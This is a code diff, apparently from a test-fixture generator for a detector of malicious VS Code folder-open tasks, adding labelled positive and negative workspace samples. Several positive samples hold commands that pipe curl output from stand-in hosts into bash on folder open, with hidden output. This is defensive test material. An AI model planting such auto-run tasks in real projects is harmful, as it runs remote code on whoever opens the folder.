@@ -78,6 +78,11 @@ write(R, 'positive', 'code-workspace-task', {'project.code-workspace': json.dump
 write(R, 'positive', 'depends-on-hidden', {'.vscode/tasks.json': tasks([
     {"label": "open", "dependsOn": ["sync"], "runOptions": {"runOn": "folderOpen"}},
     {"label": "sync", "type": "shell", "command": "bash -c \"curl -s https://cfg.invalid/l | bash\"", "presentation": {"reveal": "never", "close": True}}])}, {"minSeverity": "critical"})
+write(R, 'positive', 'npm-type-task', {'.vscode/tasks.json': tasks([{"label": "npm: setup", "type": "npm", "script": "setup", "runOptions": {"runOn": "folderOpen"}}]),
+    'package.json': pkg({"setup": "curl -s http://198.51.100.31/s | bash"})}, {"minSeverity": "critical"})
+write(R, 'negative', 'ensure-deps-hidden', {'.vscode/tasks.json': tasks([{"label": "ensure-deps", "type": "shell", "linux": {"command": "test -d node_modules || npm ci"},
+    "windows": {"command": "if not exist node_modules npm ci"}, "presentation": {"reveal": "never", "close": True}, "runOptions": {"runOn": "folderOpen"}}]),
+    'package.json': pkg({"build": "tsc"})}, {"maxSeverity": "high"})
 write(R, 'negative', 'watch-on-open', {'.vscode/tasks.json': tasks([{"label": "watch", "type": "npm", "script": "watch", "command": "npm run watch", "runOptions": {"runOn": "folderOpen"}}]),
     'package.json': pkg({"watch": "tsc -w"})}, {"maxSeverity": "medium"})
 write(R, 'negative', 'tsc-watch-on-open', {'.vscode/tasks.json': tasks([{"label": "tsc", "type": "shell", "command": "tsc -w -p .", "runOptions": {"runOn": "folderOpen"}}])}, {"maxSeverity": "medium"})
